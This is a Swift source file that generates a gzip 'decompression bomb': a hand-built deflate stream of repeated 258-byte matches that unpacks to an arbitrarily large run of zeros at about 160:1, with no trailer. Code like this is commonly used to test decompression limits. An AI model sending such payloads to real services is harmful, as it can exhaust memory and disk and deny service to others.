/// A gzip file (RFC 1952) of zeros, packed some 160 : 1 into one block with fixed codes (RFC 1951 §3.2.6).
enum GzipBomb {
  /// Bytes that unpack to at least that many zeros.
  static func bytes(unpackingTo size: Int) -> [UInt8] {
    var bits = BitWriter(bytes: [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF])
    bits.append(0b011, 3)  // the last block, fixed codes
    bits.append(0b0000_1100, 8)  // the literal 0: code 00110000, written from its first bit on
    for _ in 0..<(size / 258 + 1) {
      bits.append(0b1010_0011, 8)  // length 258: code 11000101
      bits.append(0, 5)  // distance 1
    }
    bits.append(0, 7)  // end of block
    // Neither checksum nor length: who unpacks as it comes has the zeros by then.
    return bits.flushed
  }

  /// Packs bits from the lowest upwards.
  private struct BitWriter {
    var bytes: [UInt8]
    private var pending: UInt32 = 0
    private var count: UInt32 = 0

    init(bytes: [UInt8]) { self.bytes = bytes }

    mutating func append(_ bits: UInt32, _ width: UInt32) {
      pending |= bits << count
      count += width
      while count >= 8 {
        bytes.append(UInt8(truncatingIfNeeded: pending))
        pending >>= 8
        count -= 8
      }
    }

    var flushed: [UInt8] { count == 0 ? bytes : bytes + [UInt8(truncatingIfNeeded: pending)] }
  }
}
